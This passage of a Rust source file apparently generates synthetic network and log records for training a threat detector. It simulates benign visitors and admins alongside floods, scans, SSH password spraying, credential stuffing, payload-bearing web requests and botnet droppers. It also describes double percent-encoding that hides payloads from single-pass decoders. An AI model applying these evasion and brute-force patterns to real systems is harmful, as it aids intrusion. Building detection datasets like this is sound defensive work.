//! One generator per class. Each picks a variant with [`Ctx::variant`] (the base variants,
//! or at higher levels a hard case), writes the entity's events, and returns the variant's
//! name. The table in `mod.rs` documents what each level unlocks.

use std::fmt::Write as _;
use std::net::{IpAddr, Ipv4Addr};

use vigil_features::{AppProto, Transport};

use super::build::{
    Ctx, Dest, FILE_SERVER, PUBLIC_DNS, RESOLVER, SEC, SSH_HOSTS, Shell, Step, WEB,
};
use super::vocab::{
    ADMIN_COMMANDS, APT_PERSIST, APT_QUIET, APT_RECON, APT_STAGE, ASSETS, BROWSERS, INJECTION,
    PAGES, PROBE_PATHS, SAAS, SCANNED_TCP, SCANNED_UDP, SQLI, TOOLS, TOP_PORTS, TRAVERSAL,
    TUNNEL_TARGETS, XSS,
};

/// Generates one entity of class `label` (index into the threat class set); returns the
/// scenario's name, with `+decoy` when benign browsing was mixed in and `+partial` when
/// only the window's start was kept.
pub(super) fn generate(c: &mut Ctx<'_>, label: usize) -> String {
    let name = match label {
        0 => normal(c),
        1 => dos(c),
        2 => recon(c),
        3 => brute_force(c),
        4 => web_attack(c),
        5 => botnet(c),
        _ => apt(c),
    };
    // At level 3 attackers also browse the shop like anyone else (decoy traffic).
    let mut name = name.to_owned();
    if label != 0 && c.level >= 3 && c.chance(DECOY_SHARE) {
        decoy(c);
        name.push_str("+decoy");
    }
    // Windows are cut wherever the stream is read: some sources are seen only as they start.
    if c.chance(super::partial_share(c.level)) {
        let k = c.log_count(1, 12);
        c.keep_first(k);
        name.push_str("+partial");
    }
    name
}

/// Share of attack entities at level 3 that also carry a benign browsing visit.
pub(super) const DECOY_SHARE: f64 = 0.35;

/// SSH clients of people (not bots).
const HUMAN_CLIENTS: [&str; 5] = [
    "SSH-2.0-OpenSSH_7.6p1 Ubuntu-4",
    "SSH-2.0-OpenSSH_7.4",
    "SSH-2.0-PuTTY_Release_0.70",
    "SSH-2.0-OpenSSH_7.7",
    "SSH-2.0-WinSCP_release_5.13",
];

// Normal.

fn normal(c: &mut Ctx<'_>) -> &'static str {
    let name = c.variant(
        &["visitor", "visitor", "workstation", "admin"],
        &[
            (1, "admin_mistype"),
            (1, "locked_out"),
            (1, "burst"),
            (2, "health_check"),
            (2, "admin_jump"),
            (3, "curious_visitor"),
        ],
    );
    match name {
        "visitor" => visitor(c, Browse::Plain),
        "burst" => visitor(c, Browse::Burst),
        "curious_visitor" => visitor(c, Browse::Curious),
        "workstation" => workstation(c),
        "admin" => admin(c, 0, false),
        "admin_mistype" => {
            let n = c.count(1, 3);
            admin(c, n, false);
        }
        "locked_out" => {
            let n = c.count(4, 8);
            if c.chance(0.5) {
                admin(c, n, false);
            } else {
                locked_out(c, n);
            }
        }
        "admin_jump" => admin(c, 0, true),
        _ => health_check(c),
    }
    name
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Browse {
    Plain,
    /// One page pulls in dozens of assets within seconds (a gallery, a cold cache).
    Burst,
    /// Also opens the admin pages and a few broken links (a shop editor, a curious user).
    Curious,
}

/// A customer browsing the shop: a few visits, a few pages each, assets per page.
fn visitor(c: &mut Ctx<'_>, kind: Browse) {
    c.external();
    let agent = c.pick(&BROWSERS);
    let mut t = c.at_hour(7.0, 22.0, false);
    let visits = c.count(1, 3);
    for visit in 0..visits {
        let port = c.src_port();
        let pages = c.count(2, 7);
        for page in 0..pages {
            let url = c.pick(&PAGES);
            let size = c.log_bytes(6_000, 80_000);
            c.http(t, port, "GET", url, 200, agent, size);
            let burst = kind == Browse::Burst && visit == 0 && page == 0;
            let assets = if burst { c.count(40, 150) } else { c.count(0, 5) };
            for _ in 0..assets {
                t += c.secs(0.01, if burst { 0.15 } else { 0.5 });
                let url = c.pick(&ASSETS);
                let (status, size) =
                    if c.chance(0.3) { (304, 0) } else { (200, c.log_bytes(800, 300_000)) };
                let status = if c.chance(0.02) { 404 } else { status };
                c.http(t, port, "GET", url, status, agent, size);
            }
            if c.chance(0.1) {
                t += c.log_secs(2.0, 30.0);
                c.http(t, port, "POST", "/cart", 302, agent, 400);
            }
            t += c.log_secs(4.0, 180.0);
        }
        if kind == Browse::Curious {
            let odd = c.count(2, 5);
            for _ in 0..odd {
                t += c.log_secs(2.0, 60.0);
                let (url, status) = match c.count(0, 3) {
                    0 => ("/wp-login.php", 200),
                    1 => ("/admin", 302),
                    2 => ("/robots.txt", 200),
                    _ => ("/products/9999", 404),
                };
                c.http(t, port, "GET", url, status, agent, 3_000);
            }
            if c.chance(0.5) {
                t += c.log_secs(5.0, 40.0);
                c.http(t, port, "POST", "/wp-login.php", 302, agent, 600);
            }
        }
        t += c.log_secs(600.0, 6.0 * 3600.0);
    }
}

/// An office machine on the internal network during a working day: DNS, HTTPS to the usual
/// cloud services, the file share now and then.
fn workstation(c: &mut Ctx<'_>) {
    c.internal();
    let mut t = c.at_hour(7.5, 10.0, true);
    let end = t + c.secs(4.0 * 3600.0, 9.0 * 3600.0);
    let mut n = 0;
    while t < end && n < 160 {
        let out = c.bytes(60, 90);
        let inn = c.bytes(90, 300);
        c.flow(t, IpAddr::V4(RESOLVER), 53, Transport::Udp, AppProto::Dns, out, inn, 0.02);
        t += c.secs(0.01, 0.1);
        let saas: IpAddr = c.pick(&SAAS).parse().expect("a literal address");
        let (out, inn) = (c.log_bytes(800, 40_000), c.log_bytes(5_000, 3_000_000));
        let secs = c.uniform(0.5, 120.0);
        c.flow(t, saas, 443, Transport::Tcp, AppProto::Tls, out, inn, secs);
        n += 2;
        if c.chance(0.15) {
            t += c.secs(1.0, 30.0);
            let (out, inn) = (c.log_bytes(2_000, 300_000), c.log_bytes(10_000, 8_000_000));
            let secs = c.uniform(1.0, 60.0);
            let fs = IpAddr::V4(FILE_SERVER);
            c.flow(t, fs, 445, Transport::Tcp, AppProto::Smb, out, inn, secs);
            n += 1;
        }
        t += c.log_secs(60.0, 2400.0);
    }
}

/// A staff password: long and mixed, unlike the attackers' lists.
fn staff_password(c: &mut Ctx<'_>) -> String {
    const CHARS: &[u8] = b"abcdefghijkmnopqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789!#%+-_";
    let n = c.count(10, 18);
    (0..n).map(|_| char::from(CHARS[c.count(0, CHARS.len() - 1)])).collect()
}

/// An administrator's account: a personal or service account with a strong password, or
/// (two in five) the weak kind attackers guess, a common name and a password from their
/// lists, which is why guessing works.
fn admin_credentials(c: &mut Ctx<'_>) -> (String, String) {
    if c.chance(0.4) {
        let v = c.v;
        let user = c.skewed(&v.usernames[..20.min(v.usernames.len())]).to_owned();
        let pass = c.skewed(&v.passwords).to_owned();
        (user, pass)
    } else {
        (staff_user(c), staff_password(c))
    }
}

/// A typo of `password`: one character dropped, doubled or swapped with its neighbour.
fn typo(c: &mut Ctx<'_>, password: &str) -> String {
    let mut chars: Vec<char> = password.chars().collect();
    if chars.len() < 2 {
        chars.push('1');
        return chars.into_iter().collect();
    }
    let i = c.count(0, chars.len().saturating_sub(2));
    match c.count(0, 2) {
        0 => {
            chars.remove(i);
        }
        1 => chars.insert(i, chars[i]),
        _ => chars.swap(i, i + 1),
    }
    chars.into_iter().collect()
}

/// A staff account name: one of the less common names from the Cowrie list (service and
/// personal accounts such as `deploy`, `git`, `jenkins`).
fn staff_user(c: &mut Ctx<'_>) -> String {
    let v = c.v;
    let users = &v.usernames;
    users[c.count(20.min(users.len() - 1), users.len() - 1)].to_owned()
}

/// An administrator working on the SSH host: a few sessions of ordinary commands;
/// `mistypes` failed logins first; with `jump`, also hops to internal hosts through the
/// bastion (ProxyJump) and pushes a backup to an off-site store.
fn admin(c: &mut Ctx<'_>, mistypes: usize, jump: bool) {
    c.external();
    let (user, pass) = admin_credentials(c);
    let client = c.pick(&HUMAN_CLIENTS);
    let mut t = c.at_hour(7.5, 18.0, true);
    let sessions = c.count(1, 3);
    let mut failures = mistypes;
    for s in 0..sessions {
        let mut steps = Vec::new();
        // sshd allows three attempts per connection: a lock-out spans connections.
        while failures > 0 {
            let wrong = typo(c, &pass);
            steps.push(Step::Login { user: user.clone(), pass: wrong, ok: false });
            failures -= 1;
            if failures > 0 && steps.len() == 3 {
                t = c.shell(
                    t,
                    &Shell { telnet: false, client: Some(client), steps, gap: (2.0, 15.0) },
                );
                t += c.log_secs(10.0, 600.0);
                steps = Vec::new();
            }
        }
        steps.push(Step::Login { user: user.clone(), pass: pass.clone(), ok: true });
        let commands = c.count(3, 14);
        for _ in 0..commands {
            steps.push(Step::Command(c.pick(&ADMIN_COMMANDS).to_owned()));
        }
        if jump && s == 0 {
            let hops = c.count(1, 4);
            for _ in 0..hops {
                let host = c.internal_server();
                let bytes = c.log_bytes(20_000, 5_000_000);
                steps.push(Step::Forward { dst: Dest::Ip(host), port: 22, bytes, line: None });
            }
            if c.chance(0.6) {
                let store: IpAddr = c.pick(&SAAS).parse().expect("a literal address");
                let bytes = c.log_bytes(20_000_000, 800_000_000);
                steps.push(Step::Forward { dst: Dest::Ip(store), port: 443, bytes, line: None });
            }
        }
        t = c.shell(t, &Shell { telnet: false, client: Some(client), steps, gap: (2.0, 90.0) });
        t += c.log_secs(1200.0, 5.0 * 3600.0);
    }
}

/// An administrator who cannot remember the new password and gives up after `failures`.
fn locked_out(c: &mut Ctx<'_>, failures: usize) {
    c.external();
    let (user, pass) = admin_credentials(c);
    let client = c.pick(&HUMAN_CLIENTS);
    let mut t = c.at_hour(7.5, 18.0, true);
    let mut left = failures;
    while left > 0 {
        let mut steps = Vec::new();
        for _ in 0..left.min(3) {
            let wrong = typo(c, &pass);
            steps.push(Step::Login { user: user.clone(), pass: wrong, ok: false });
        }
        left -= left.min(3);
        t = c.shell(t, &Shell { telnet: false, client: Some(client), steps, gap: (2.0, 15.0) });
        t += c.log_secs(10.0, 600.0);
    }
}

/// A monitoring host checking a fixed set of services on internal servers at a fixed
/// interval: many ports, perfectly regular timing (reads like a scan and a beacon).
fn health_check(c: &mut Ctx<'_>) {
    c.internal();
    let hosts: Vec<IpAddr> = (0..c.count(2, 4)).map(|_| c.internal_server()).collect();
    let ports: Vec<u16> = (0..c.count(2, 5)).map(|_| c.pick(&TOP_PORTS[..20])).collect();
    let interval = c.pick(&[60, 120, 300]) * SEC;
    let rounds = c.count(5, 20);
    let mut t = c.anytime();
    for _ in 0..rounds {
        for &h in &hosts {
            for &p in &ports {
                let (out, inn) = (c.bytes(60, 200), c.bytes(60, 2_000));
                let secs = c.uniform(0.001, 0.05);
                c.flow(t, h, p, Transport::Tcp, AppProto::Unknown, out, inn, secs);
                t += c.secs(0.001, 0.02);
            }
        }
        t += interval;
    }
}

// DDoS/DoS.

fn dos(c: &mut Ctx<'_>) -> &'static str {
    let name = c.variant(
        &["syn_flood", "udp_flood", "http_flood"],
        &[
            (1, "short_burst"),
            (2, "browser_flood"),
            (2, "slowloris"),
            (3, "pulse"),
            (3, "l7_swarm"),
        ],
    );
    c.external();
    let t = c.anytime();
    match name {
        "syn_flood" => {
            let n = c.count(150, 450);
            syn_flood(c, t, n, (0.05, 1.0));
        }
        "short_burst" => {
            // A short application-layer burst: a heavy page and all its assets, fetched
            // again and again for a minute or two (cache-busting), the shape of a benign
            // heavy page load.
            let agent = c.pick(&BROWSERS);
            let mut t = t;
            for _ in 0..c.count(1, 3) {
                let port = c.src_port();
                let page = c.pick(&PAGES);
                let size = c.log_bytes(6_000, 80_000);
                c.http(t, port, "GET", page, 200, agent, size);
                for _ in 0..c.count(40, 150) {
                    t += c.secs(0.01, 0.15);
                    let url = c.pick(&ASSETS);
                    let size = c.log_bytes(800, 300_000);
                    c.http(t, port, "GET", url, 200, agent, size);
                }
                t += c.log_secs(2.0, 30.0);
            }
        }
        "pulse" => {
            let mut t = t;
            for _ in 0..c.count(3, 6) {
                let n = c.count(12, 35);
                t = syn_flood(c, t, n, (0.05, 1.0));
                t += c.log_secs(300.0, 3.0 * 3600.0);
            }
        }
        "l7_swarm" => {
            // One of thousands of sources of a distributed HTTP flood: each sends only a
            // browser's worth of page loads.
            let agent = c.pick(&BROWSERS);
            let port = c.src_port();
            let n = c.count(10, 60);
            browse(c, t, port, agent, n);
        }
        "udp_flood" => udp_flood(c, t),
        "http_flood" => http_flood(c, t, false),
        "browser_flood" => http_flood(c, t, true),
        _ => slowloris(c, t),
    }
    name
}

/// `n` sampled flow records of a SYN flood, `gap` seconds apart; returns the end.
fn syn_flood(c: &mut Ctx<'_>, mut t: i64, n: usize, gap: (f64, f64)) -> i64 {
    let port = c.pick(&[80, 443]);
    let target = IpAddr::V4(WEB);
    for i in 0..n {
        let out = 40 * c.bytes(1, 20);
        c.flow(t, target, port, Transport::Tcp, AppProto::Unknown, out, 0, 0.0);
        if i % 97 == 0 && c.chance(0.7) {
            c.alert(t, target, port, "ET DOS Possible SYN Flood", "Attempted Denial of Service", 2);
        }
        t += c.secs(gap.0, gap.1);
    }
    t
}

fn udp_flood(c: &mut Ctx<'_>, mut t: i64) {
    let n = c.count(150, 400);
    let amplification = c.chance(0.5);
    let (target, alert_port) = if amplification { (PUBLIC_DNS, 53) } else { (WEB, 0) };
    for _ in 0..n {
        let (dst, port) =
            if amplification { (IpAddr::V4(PUBLIC_DNS), 53) } else { (IpAddr::V4(WEB), c.port()) };
        let out = c.bytes(512, 1_400) * c.bytes(1, 20);
        let app = if port == 53 { AppProto::Dns } else { AppProto::Unknown };
        c.flow(t, dst, port, Transport::Udp, app, out, 0, 0.0);
        t += c.secs(0.05, 0.8);
    }
    c.alert(
        t,
        IpAddr::V4(target),
        alert_port,
        "ET DOS Excessive UDP traffic",
        "Attempted Denial of Service",
        2,
    );
}

/// An HTTP flood: a tool hammering one URL, or (`browser`) a slower flood that fetches real
/// pages and assets with browser User-Agents.
fn http_flood(c: &mut Ctx<'_>, mut t: i64, browser: bool) {
    let agent = if browser { c.pick(&BROWSERS) } else { c.pick(&TOOLS[2..]) };
    let n = if browser { c.count(80, 250) } else { c.count(150, 400) };
    let gap = if browser { (0.1, 6.0) } else { (0.01, 0.2) };
    for i in 0..n {
        let port = c.src_port();
        let url = if browser {
            if c.chance(0.6) { c.pick(&PAGES).to_owned() } else { c.pick(&ASSETS).to_owned() }
        } else if c.chance(0.5) {
            "/".to_owned()
        } else {
            format!("/search?q={}", c.bytes(0, 1 << 30))
        };
        // The server degrades as the flood goes on.
        let status = if i > n / 3 && c.chance(0.4) { 503 } else { 200 };
        let size = if status == 503 { 300 } else { c.log_bytes(5_000, 60_000) };
        c.http(t, port, "GET", &url, status, agent, size);
        t += c.log_secs(gap.0, gap.1);
    }
}

/// Slowloris: a few dozen connections held open for minutes with a trickle of header bytes;
/// the server times each out (408).
fn slowloris(c: &mut Ctx<'_>, mut t: i64) {
    let agent = c.pick(&BROWSERS);
    for _ in 0..c.count(15, 50) {
        let secs = c.uniform(200.0, 900.0);
        let out = c.bytes(200, 3_000);
        c.flow(t, IpAddr::V4(WEB), 80, Transport::Tcp, AppProto::Http, out, 0, secs);
        let port = c.src_port();
        c.http(t + (secs * 1e6) as i64, port, "GET", "/", 408, agent, 0);
        t += c.log_secs(0.5, 20.0);
    }
}

// Reconnaissance.

fn recon(c: &mut Ctx<'_>) -> &'static str {
    let name = c.variant(
        &["port_scan", "host_sweep", "banner_grab", "internet_scan"],
        &[(1, "web_probe"), (2, "slow_scan"), (3, "common_ports")],
    );
    c.external();
    let t = c.anytime();
    match name {
        "port_scan" => {
            let n = c.count(50, 300);
            port_scan(c, t, n, (0.001, 0.05));
        }
        "web_probe" => {
            // Half of these scanners look at the web server only.
            let t = if c.chance(0.5) {
                let n = c.count(15, 80);
                port_scan(c, t, n, (0.001, 0.05))
            } else {
                t
            };
            web_probe(c, t);
        }
        "slow_scan" => {
            let n = c.count(10, 40);
            port_scan(c, t, n, (30.0, 900.0));
        }
        "common_ports" => common_ports(c, t),
        "host_sweep" => host_sweep(c, t),
        "internet_scan" => internet_scan(c, t),
        _ => banner_grab(c, t),
    }
    name
}

/// A SYN scan of `n` ports of one host, `gap` seconds between probes; returns the end.
fn port_scan(c: &mut Ctx<'_>, mut t: i64, n: usize, gap: (f64, f64)) -> i64 {
    let target = IpAddr::V4(c.pick(&[WEB, PUBLIC_DNS, SSH_HOSTS[0]]));
    let ports: Vec<u16> = if c.chance(0.5) {
        let start = c.bytes(1, 2_000) as u16;
        (0..n as u16).map(|i| start + i).collect()
    } else {
        let mut p: Vec<u16> = TOP_PORTS.to_vec();
        while p.len() < n {
            p.push(c.port());
        }
        p.truncate(n);
        p
    };
    let slow = gap.0 >= 1.0;
    for (i, port) in ports.into_iter().enumerate() {
        let reply = if c.chance(0.1) { 44 } else { 0 };
        c.flow(t, target, port, Transport::Tcp, AppProto::Unknown, 44, reply, 0.0);
        if i % 50 == 0 && !slow {
            c.alert(
                t,
                target,
                port,
                "ET SCAN NMAP -sS window 1024",
                "Attempted Information Leak",
                2,
            );
        }
        t += if slow { c.log_secs(gap.0, gap.1) } else { c.secs(gap.0, gap.1) };
    }
    t
}

/// An Internet-wide scanner as one of its targets sees it: a few probes of the ports mass
/// scanners try, most never answered (a SYN and a retransmission or two; a datagram for
/// UDP), now and then a reset back; most come once, some return minutes to hours later.
fn internet_scan(c: &mut Ctx<'_>, mut t: i64) {
    let target = IpAddr::V4(c.pick(&[WEB, PUBLIC_DNS, SSH_HOSTS[0], SSH_HOSTS[1]]));
    let probes = if c.chance(0.6) { 1 } else { c.log_count(2, 12) };
    for _ in 0..probes {
        if c.chance(0.1) {
            let port = c.pick(&SCANNED_UDP);
            let out = c.bytes(60, 300);
            c.flow(t, target, port, Transport::Udp, AppProto::Unknown, out, 0, 0.0);
        } else {
            let port = c.pick(&SCANNED_TCP);
            let out = 40 * c.bytes(1, 3);
            let reply = if c.chance(0.1) { 40 } else { 0 };
            c.flow(t, target, port, Transport::Tcp, AppProto::Unknown, out, reply, 0.0);
        }
        t += c.log_secs(1.0, 12.0 * 3600.0);
    }
}

/// One or two ports across many hosts of the organisation's public /24.
fn host_sweep(c: &mut Ctx<'_>, mut t: i64) {
    let ports: Vec<u16> =
        (0..c.count(1, 2)).map(|_| c.pick(&[22, 23, 80, 445, 3389, 8080])).collect();
    let hosts = c.count(20, 150);
    for h in 0..hosts {
        let dst = IpAddr::V4(Ipv4Addr::new(203, 0, 113, (h + 1) as u8));
        for &port in &ports {
            let reply = if c.chance(0.05) { 44 } else { 0 };
            c.flow(t, dst, port, Transport::Tcp, AppProto::Unknown, 44, reply, 0.0);
            t += c.secs(0.005, 0.3);
        }
    }
    if ports.contains(&22) {
        c.alert(
            t,
            IpAddr::V4(SSH_HOSTS[0]),
            22,
            "ET SCAN Potential SSH Scan",
            "Attempted Information Leak",
            2,
        );
    }
}

/// Connect, read the banner, leave: SSH (or Telnet) sessions with no login at all. As the
/// real honeypot logs show them (kareiva: 84 sources with 5+ sessions and no login, most
/// with 190-340 sessions of connect, client version, close a second later, spread over
/// weeks): one protocol per scanner, some coming back every few seconds, most every few
/// minutes to hours.
fn banner_grab(c: &mut Ctx<'_>, mut t: i64) {
    // A third come once or a few times only (the real logs have many such sources).
    let n = if c.chance(0.33) { c.count(1, 4) } else { c.count(5, 60) };
    let client = c.pick(&[
        "SSH-2.0-Go",
        "SSH-2.0-libssh2_1.4.3",
        "SSH-2.0-sshlib-0.1",
        "SSH-2.0-OpenSSH_7.3",
        "SSH-2.0-PUTTY",
    ]);
    let telnet = c.chance(0.2);
    let gap = if c.chance(0.3) { (1.0, 120.0) } else { (60.0, 20_000.0) };
    for _ in 0..n {
        let shell = Shell {
            telnet,
            client: (!telnet).then_some(client),
            steps: Vec::new(),
            gap: (0.1, 1.0),
        };
        t = c.shell(t, &shell);
        t += c.log_secs(gap.0, gap.1);
    }
}

/// A scanner that also asks the web server for well-known paths.
fn web_probe(c: &mut Ctx<'_>, mut t: i64) {
    let agent = c.pick(&TOOLS[2..]);
    let port = c.src_port();
    c.http(t, port, "GET", "/", 200, agent, 12_000);
    for _ in 0..c.count(4, 24) {
        t += c.log_secs(0.2, 20.0);
        let url = c.pick(&PROBE_PATHS);
        let status = if url == "/robots.txt" { 200 } else { c.pick(&[404, 404, 404, 403, 301]) };
        c.http(t, port, "GET", url, status, agent, 400);
    }
}

/// A handful of common ports on one to three hosts, and perhaps one login try.
fn common_ports(c: &mut Ctx<'_>, mut t: i64) {
    for _ in 0..c.count(1, 3) {
        let dst = IpAddr::V4(Ipv4Addr::new(203, 0, 113, c.count(1, 254) as u8));
        for _ in 0..c.count(3, 8) {
            let port = c.pick(&TOP_PORTS[..10]);
            c.flow(t, dst, port, Transport::Tcp, AppProto::Unknown, 44, 0, 0.0);
            t += c.log_secs(0.01, 30.0);
        }
    }
    if c.chance(0.5) {
        let user = c.pick(&["root", "admin"]).to_owned();
        let v = c.v;
        let pass = c.skewed(&v.passwords);
        let steps = vec![Step::Login { user, pass: pass.to_owned(), ok: false }];
        let client = c.skewed(&v.clients);
        c.shell(t, &Shell { telnet: false, client: Some(client), steps, gap: (0.5, 3.0) });
    }
}

// Brute force.

fn brute_force(c: &mut Ctx<'_>) -> &'static str {
    let name = c.variant(
        &["ssh_spray", "ssh_spray", "telnet_spray", "dictionary", "probe"],
        &[(1, "slow"), (2, "web_login"), (2, "success_idle"), (3, "distributed")],
    );
    c.external();
    let t = c.anytime();
    match name {
        "ssh_spray" | "telnet_spray" => {
            let sessions = c.count(8, 45);
            let succeed = c.chance(0.1);
            spray(c, t, sessions, (1, 6), (0.5, 25.0), name == "telnet_spray", succeed);
        }
        "slow" => {
            let sessions = c.count(5, 30);
            spray(c, t, sessions, (1, 1), (60.0, 1800.0), false, false);
        }
        "probe" => {
            // The commonest source in the real logs (kareiva: 273 of the 472 sources a
            // champion called Normal): one connection, a few default credentials, gone.
            let (attempts, telnet) = ((1, c.count(1, 4)), c.chance(0.2));
            spray(c, t, 1, attempts, (1.0, 2.0), telnet, false);
        }
        "dictionary" => {
            // As the real honeypot logs show most brute forcers: one or two connections,
            // each working through a password list for one account (kareiva: a median of
            // 21 guesses in one session).
            let sessions = c.count(1, 2);
            spray(c, t, sessions, (15, 60), (5.0, 600.0), false, false);
        }
        "distributed" => {
            // One source of a distributed credential-stuffing run: a few leaked
            // username/password pairs (real-looking accounts, strong passwords) per source.
            let client = c.pick(&HUMAN_CLIENTS);
            let user = staff_user(c);
            let mut t = t;
            for _ in 0..c.count(1, 3) {
                let mut steps = Vec::new();
                for _ in 0..c.count(1, 3) {
                    let pass = staff_password(c);
                    steps.push(Step::Login { user: user.clone(), pass, ok: false });
                }
                t = c.shell(
                    t,
                    &Shell { telnet: false, client: Some(client), steps, gap: (2.0, 15.0) },
                );
                t += c.log_secs(10.0, 3600.0);
            }
        }
        "success_idle" => {
            let sessions = c.count(5, 25);
            let t = spray(c, t, sessions, (1, 5), (0.5, 25.0), false, false);
            let v = c.v;
            let user = c.skewed(&v.usernames).to_owned();
            let pass = c.skewed(&v.passwords).to_owned();
            let mut steps = vec![Step::Login { user, pass, ok: true }];
            for _ in 0..c.count(0, 2) {
                steps.push(Step::Command(
                    c.pick(&["uname -a", "uname", "cat /proc/cpuinfo", "free -m"]).to_owned(),
                ));
            }
            let client = c.skewed(&v.clients);
            let t = t + c.secs(1.0, 20.0);
            c.shell(t, &Shell { telnet: false, client: Some(client), steps, gap: (0.5, 3.0) });
        }
        _ => web_login(c, t),
    }
    name
}

/// Password spraying: `sessions` connections of `attempts` guesses each, `between` seconds
/// apart; `succeed` makes the very last guess work (then the bot leaves). Returns the end.
fn spray(
    c: &mut Ctx<'_>,
    mut t: i64,
    sessions: usize,
    attempts: (usize, usize),
    between: (f64, f64),
    telnet: bool,
    succeed: bool,
) -> i64 {
    let v = c.v;
    let (users, passwords) = (&v.usernames, &v.passwords);
    let client = c.skewed(&v.clients);
    // A bot works through one user list: mostly the same few names.
    let focus = c.skewed(users).to_owned();
    for s in 0..sessions {
        let mut steps = Vec::new();
        let n = c.count(attempts.0, attempts.1);
        for a in 0..n {
            let user = if c.chance(0.6) { focus.clone() } else { c.skewed(users).to_owned() };
            let pass = if c.chance(0.15) { user.clone() } else { c.skewed(passwords).to_owned() };
            let ok = succeed && s + 1 == sessions && a + 1 == n;
            steps.push(Step::Login { user, pass, ok });
        }
        let shell = Shell { telnet, client: (!telnet).then_some(client), steps, gap: (0.3, 4.0) };
        t = c.shell(t, &shell);
        t += c.log_secs(between.0, between.1);
    }
    t
}

/// Credential stuffing against the shop's login form.
fn web_login(c: &mut Ctx<'_>, mut t: i64) {
    let agent = if c.chance(0.5) { c.pick(&BROWSERS) } else { c.pick(&TOOLS[3..5]) };
    let url = c.pick(&["/wp-login.php", "/xmlrpc.php", "/account/login", "/login"]);
    let port = c.src_port();
    for _ in 0..c.count(20, 200) {
        let size = c.bytes(2_000, 6_000);
        c.http(t, port, "POST", url, 200, agent, size);
        t += c.log_secs(0.3, 15.0);
    }
}

// Web attacks.

fn web_attack(c: &mut Ctx<'_>) -> &'static str {
    let name = c.variant(
        &["sqli", "xss", "traversal", "vuln_scan", "cmd_injection"],
        &[(1, "low_volume"), (2, "encoded_mix"), (3, "blend")],
    );
    c.external();
    let mut t = c.anytime();
    let port = c.src_port();
    match name {
        "sqli" | "xss" | "traversal" | "cmd_injection" => {
            let agent = if name == "sqli" { TOOLS[0] } else { c.pick(&TOOLS[2..]) };
            for _ in 0..c.count(25, 180) {
                let url = payload_url(c, Some(name), 1);
                let status = c.pick(&[200, 500, 500, 403, 400]);
                hit(c, t, port, &url, status, agent);
                t += c.log_secs(0.05, 2.0);
            }
        }
        "vuln_scan" => {
            let agent = TOOLS[1];
            for _ in 0..c.count(50, 300) {
                let (url, status) = if c.chance(0.6) {
                    (c.pick(&PROBE_PATHS).to_owned(), c.pick(&[404, 404, 403, 200]))
                } else if c.chance(0.5) {
                    (format!("/{}.php", c.bytes(1000, 99_999)), 404)
                } else {
                    (payload_url(c, None, 1), c.pick(&[404, 500, 400]))
                };
                let method = c.pick(&["GET", "GET", "GET", "HEAD", "OPTIONS"]);
                c.http(t, port, method, &url, status, agent, 300);
                t += c.secs(0.02, 0.5);
            }
        }
        "low_volume" => {
            let agent = c.pick(&BROWSERS);
            for _ in 0..c.count(3, 12) {
                // A third of them hide the payload under a second layer of encoding.
                let layers = if c.chance(0.3) { 2 } else { 1 };
                let url = payload_url(c, None, layers);
                let status = c.pick(&[200, 500]);
                hit(c, t, port, &url, status, agent);
                t += c.log_secs(2.0, 90.0);
            }
        }
        "encoded_mix" => {
            let agent = c.pick(&BROWSERS);
            let n = c.count(5, 25);
            t = browse(c, t, port, agent, n);
            for _ in 0..c.count(5, 20) {
                let url = payload_url(c, None, 2);
                let status = c.pick(&[200, 500, 400]);
                hit(c, t, port, &url, status, agent);
                t += c.log_secs(1.0, 30.0);
            }
        }
        _ => {
            let agent = c.pick(&BROWSERS);
            let n = c.count(10, 40);
            t = browse(c, t, port, agent, n);
            for _ in 0..c.count(1, 3) {
                let url = payload_url(c, None, 2);
                hit(c, t, port, &url, 200, agent);
                t += c.log_secs(3.0, 60.0);
            }
            let n = c.count(0, 10);
            browse(c, t, port, agent, n);
        }
    }
    name
}

/// One attack request with a response of some size.
fn hit(c: &mut Ctx<'_>, t: i64, port: u16, url: &str, status: u16, agent: &str) {
    let size = c.log_bytes(300, 20_000);
    c.http(t, port, "GET", url, status, agent, size);
}

/// Benign page and asset requests; returns the end.
fn browse(c: &mut Ctx<'_>, mut t: i64, port: u16, agent: &str, n: usize) -> i64 {
    for _ in 0..n {
        let url = if c.chance(0.5) { c.pick(&PAGES) } else { c.pick(&ASSETS) };
        let size = c.log_bytes(800, 80_000);
        c.http(t, port, "GET", url, 200, agent, size);
        t += c.log_secs(0.05, 60.0);
    }
    t
}

/// A URL carrying an attack payload of `technique` (any when `None`), percent-encoded
/// `encodings` times (twice hides it from a decoder that decodes once).
fn payload_url(c: &mut Ctx<'_>, technique: Option<&str>, encodings: usize) -> String {
    let technique =
        technique.unwrap_or_else(|| c.pick(&["sqli", "xss", "traversal", "cmd_injection"]));
    let (base, payload) = match technique {
        "sqli" => (
            c.pick(&["/products?id=", "/search?q=", "/account?user=", "/cart?item="]),
            c.pick(&SQLI),
        ),
        "xss" => (c.pick(&["/search?q=", "/contact?name=", "/blog?comment="]), c.pick(&XSS)),
        "traversal" => {
            (c.pick(&["/download?file=", "/static?path=", "/image?src="]), c.pick(&TRAVERSAL))
        }
        _ => (
            c.pick(&["/cgi-bin/ping?host=127.0.0.1", "/tools/lookup?domain=x"]),
            c.pick(&INJECTION),
        ),
    };
    let mut encoded = payload.to_owned();
    let times = if encodings == 1 && c.chance(0.5) { 0 } else { encodings };
    for _ in 0..times {
        encoded = percent_encode(&encoded);
    }
    format!("{base}{encoded}")
}

fn percent_encode(s: &str) -> String {
    let mut out = String::with_capacity(s.len() * 2);
    for b in s.bytes() {
        if b.is_ascii_alphanumeric() || b"-_.~/".contains(&b) {
            out.push(char::from(b));
        } else {
            let _ = write!(out, "%{b:02X}");
        }
    }
    out
}

// Malware / botnet.

fn botnet(c: &mut Ctx<'_>) -> &'static str {
    let name = c.variant(
        &["dropper", "dropper", "c2_beacon", "proxy_abuse"],
        &[
            (1, "jittered_beacon"),
            (1, "adb_dropper"),
            (2, "brute_then_drop"),
            (2, "infected_workstation"),
            (3, "quiet_bot"),
        ],
    );
    match name {
        "dropper" => {
            c.external();
            let t = c.anytime();
            let (sessions, failures) = (c.count(1, 5), c.count(0, 2));
            dropper(c, t, sessions, failures);
        }
        "brute_then_drop" => {
            c.external();
            let t = c.anytime();
            let sessions = c.count(3, 15);
            let t = spray(c, t, sessions, (1, 4), (0.5, 25.0), false, false);
            dropper(c, t, 1, 0);
        }
        "quiet_bot" => {
            c.external();
            let t = c.anytime();
            let v = c.v;
            let script: Vec<String> =
